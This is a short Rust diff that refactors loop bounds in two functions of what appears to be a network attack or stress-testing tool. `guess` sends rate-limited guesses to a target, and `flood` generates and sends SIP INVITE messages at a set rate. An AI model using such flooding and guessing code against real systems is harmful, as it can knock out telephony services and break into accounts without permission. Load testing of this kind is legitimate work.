@@ -119,7 +119,8 @@ pub fn guess(
             open.get_or_insert_with(|| secure(&config, sources[at % sources.len()], target));
         let mut told = Ok(());
         // Not more at once than two beats' worth: a machine that stalled is not made up for.
-        for _ in guesses..due.min(guesses + per_second as usize / 50) {
+        let until = due.min(guesses + per_second as usize / 50);
+        while guesses < until {
             told = told.and_then(|()| connection.write(guess_of(guesses).as_bytes()));
             guesses += 1;
         }
@@ -155,7 +156,8 @@ pub fn flood(source: IpAddr, target: SocketAddr, per_second: u32, stop: &AtomicB
     let (began, mut sent, mut answers) = (Instant::now(), 0, [0; 65_536]);
     while !stop.load(Ordering::Relaxed) {
         let due = (began.elapsed().as_secs_f64() * f64::from(per_second)) as usize;
-        for _ in sent..due.min(sent + per_second as usize / 50) {
+        let until = due.min(sent + per_second as usize / 50);
+        while sent < until {
             let invite = format!(
                 "INVITE sip:{sent}@{target} SIP/2.0\r\nVia: SIP/2.0/UDP {source}:5060;branch=z9hG4bKf{sent}\r\n\
                  Max-Forwards: 70\r\nFrom: <sip:f@{source}>;tag=f{sent}\r\nTo: <sip:{sent}@{target}>\r\n\
